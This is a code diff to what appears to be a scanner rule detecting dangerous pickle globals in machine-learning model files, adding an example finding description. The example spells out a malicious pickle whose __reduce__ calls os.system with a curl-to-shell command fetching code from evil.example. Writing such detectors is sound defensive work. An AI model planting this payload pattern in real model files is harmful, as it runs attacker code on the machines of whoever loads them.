@@ -13,7 +13,8 @@ internal static class DangerousPickleGlobal
         Severity.Critical,
         [Threat.MalwareDistribution, Threat.UnintendedSystemInteraction],
         ["OWASP-ML06", "OWASP-LLM03", "AML.T0010", "AML.T0011", "CWE-502"],
-        Precision.VeryHigh);
+        Precision.VeryHigh,
+        example: "A `model.pkl` written from a class whose `__reduce__` returns `(os.system, (\"curl https://evil.example/x | sh\",))`: the pickle holds `GLOBAL 'posix system'` followed by `REDUCE`.");
 
     /// <summary>Creates a finding at <paramref name="logicalPath"/> of <paramref name="path"/>.</summary>
     public static Finding Create(string path, string? logicalPath, string message, string contentKey, string? evidence = null) =>
